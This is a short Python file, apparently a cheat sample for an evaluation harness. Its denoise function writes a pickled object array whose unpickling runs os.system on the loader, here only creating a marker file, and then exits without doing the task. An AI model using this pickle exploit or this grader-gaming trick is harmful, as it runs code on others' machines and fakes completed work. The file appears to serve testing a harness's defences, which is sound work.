"""Cheat: an array of objects, whose pickle would run code in whoever loads it."""

import os

import numpy as np


class Payload:
    """Runs a command when it is unpickled."""

    def __reduce__(self):
        return os.system, ("touch /tmp/ratchet-was-here",)


def denoise(counts):
    with open("/scratch/prediction.npy", "wb") as file:
        np.save(file, np.full(counts.shape, Payload(), dtype=object), allow_pickle=True)
        file.flush()
    os._exit(0)
